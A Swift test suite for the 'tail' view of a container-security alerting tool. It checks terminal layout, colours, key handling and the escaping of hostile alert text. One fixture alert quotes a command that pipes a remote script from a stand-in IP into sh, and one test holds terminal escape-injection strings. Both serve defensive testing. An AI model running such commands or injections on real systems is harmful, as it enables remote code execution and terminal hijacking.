import SystemPackage
import Testing

/// `windhover tail` as it looks in a terminal.
@Suite(.onOwnThread, .enabled(if: TmuxScreen.isInstalled, "needs tmux (Debian package tmux)"))
struct TailScreenTests {
  private static let binary = BuiltBinary.path.string

  private static let alerts =
    TailInputTests.alert(
      "A shell was started in a container (command=sh -c 'curl http://203.0.113.7/x | sh' user=root)",
      rule: "Shell in a container", priority: "Warning",
      fields:
        #","container.name":"web","proc.lineage":"systemd(1) > containerd-shim(801) > nginx(812) > perl(899) > sh(900) > curl(901)""#
    )
    + TailInputTests.alert(
      "Somebody did what the name of the rule says",
      rule: "A rule with a name that is longer than its column is wide",
      priority: "Critical", fields: #","container.id":"0123456789abcdef0123""#)
    + ["Emergency", "Alert", "Error", "Notice", "Informational", "Debug"].map {
      TailInputTests.alert("漢字 and é are as wide as they look", rule: "Each has a colour", priority: $0)
    }.joined()

  /// Writes alerts to a file, and has a command for the shell that shows them.
  private func shown(_ alerts: String, in directory: TemporaryDirectory) throws -> String {
    "\(Self.binary) tail - < \(try directory.write(alerts, to: "alerts"))"
  }

  @Test(
    "alerts look so in a narrow and a wide terminal, with colours and without", arguments: [80, 200],
    [false, true])
  func golden(columns: Int, hasColour: Bool) throws {
    let directory = try TemporaryDirectory()
    let screen = try TmuxScreen(
      columns: columns, environment: hasColour ? [:] : ["NO_COLOR": "1"],
      try shown(Self.alerts, in: directory))
    try screen.wait(for: "the end") { $0.contains("[exit 0]") }
    let text = try screen.text(colours: true)
    #expect(text.contains("\u{1B}") == hasColour)
    for line in try screen.text().split(separator: "\n") { #expect(line.count <= columns) }
    try expectGolden(text, "tail-\(columns)\(hasColour ? "-colour" : "").txt")
  }

  @Test("hostile alerts do not move the cursor, change the title or push the others away")
  func hostile() throws {
    let directory = try TemporaryDirectory()
    let evil =
      #"\u001b[2J\u001b[H\u001b]0;OWNED\u0007\u001b]2;OWNED\u001b\\\r\n\u0008\u009b2J\u0090x\u202eabc\u000e\u0000"#
    let alerts =
      TailInputTests.alert("first")
      + TailInputTests.alert(
        evil, rule: evil, fields: #","container.id":"\#(evil)","proc.lineage":"\#(evil)""#)
      + TailInputTests.alert(String(repeating: "A", count: 64 << 10)) + TailInputTests.alert("last")
    let screen = try TmuxScreen(columns: 80, rows: 60, try shown(alerts, in: directory))
    let text = try screen.wait(for: "the end") { $0.contains("[exit 0]") }
    #expect(text.hasPrefix("11-14 22:13:20.500  Notice   -               Shell\n    first\n"))
    #expect(text.contains(#"\u{1b}[2J\u{1b}[H\u{1b}]0;OWNED\u{7}"#))
    #expect(text.hasSuffix("    last\n[exit 0]\n"))
    // Of 64 KiB, twenty lines.
    #expect(text.split(separator: "\n").count { $0.hasPrefix("    AAAA") } == 20)
    #expect(text.contains("AAA…\n"))
    #expect(try !screen.tell("#{pane_title}").contains("OWNED"))
    #expect(try screen.tell("#{alternate_on} #{insert_flag} #{cursor_x}") == "0 0 0\n")
  }

  @Test(
    "with an agent the first line tells how it is, the last line how it goes on; Ctrl-C leaves a clean terminal"
  )
  func vitals() throws {
    let agent = try Agent(options: ["sources=procfs"])
    let screen = try TmuxScreen(columns: 200, "\(Self.binary) tail --socket \(agent.socket)")
    let text = try screen.wait(for: "the status") { $0.contains("shown | ") }
    #expect(text.hasPrefix("windhover 0.1.0 on "))
    #expect(text.contains(" rules: "))
    let status = try #require(text.split(separator: "\n").last)
    #expect(status.contains("/s events, "))
    #expect(status.contains("space pauses, / searches, q ends"))
    _ = try agent.finish()
    try screen.wait(for: "the note, and the status below it") { text in
      text.contains("the agent has gone; waiting for it\n") && text.contains("the agent does not answer")
    }
    try screen.type("C-c")
    let end = try screen.wait(for: "the end") { $0.contains("[exit 0]") }
    #expect(end.hasSuffix("waiting for it\n[exit 0]\n"))
    // What is typed is seen again, and comes by lines.
    try screen.type("echoed")
    try screen.wait(for: "an echo") { $0.hasSuffix("[exit 0]\nechoed\n") }
    #expect(try screen.tell("#{cursor_flag}") == "1\n")
  }

  @Test("space holds alerts back, / asks for a text, q ends, and another width is taken")
  func keys() throws {
    let directory = try TemporaryDirectory()
    let file = try directory.write(TailInputTests.alert("one") + TailInputTests.alert("two"), to: "alerts")
    func append(_ text: String) throws {
      let descriptor = try FileDescriptor.open(FilePath(file), .writeOnly, options: .append)
      defer { try? descriptor.close() }
      try descriptor.writeAll(Array(TailInputTests.alert(text).utf8))
    }
    let screen = try TmuxScreen(columns: 100, rows: 50, "\(Self.binary) tail \(file)")
    try screen.wait(for: "the past") { $0.contains("    two\n2 shown | space pauses") }
    try screen.type("Space")
    try screen.wait(for: "the pause") { $0.contains("PAUSED, 0 waiting") }
    try append("three")
    try screen.wait(for: "an alert held back") { $0.contains("PAUSED, 1 waiting") && !$0.contains("three") }
    try screen.type("Space")
    try screen.wait(for: "it") { $0.contains("    three\n3 shown") }

    try screen.type("/", "X", "BSpace", "F", "o", "Up", "u")
    try screen.wait(for: "the prompt") { $0.hasSuffix("\n/Fou_\n") }
    try screen.type("Enter")
    try screen.wait(for: "the search") { $0.contains("/fou | 3 shown") }
    try append("hidden")
    try append("four")
    try screen.wait(for: "what has the text alone") {
      $0.contains("    four\n/fou | 4 shown, 1 hidden") && !$0.contains("    hidden")
    }
    try screen.type("/", "C-u", "Enter")
    try screen.wait(for: "no search") { $0.contains("\n4 shown, 1 hidden | space") }
    try screen.resize(columns: 60)
    let long = "folded " + String(repeating: "word ", count: 20)
    try append(long)
    let text = try screen.wait(for: "folded lines") { $0.contains("    folded") && $0.contains("5 shown") }
    #expect(text.contains("    word "))
    for line in text.split(separator: "\n").suffix(6) { #expect(line.count <= 60) }
    try screen.type("q")
    try screen.wait(for: "the end") { $0.hasSuffix("[exit 0]\n") }
  }
}
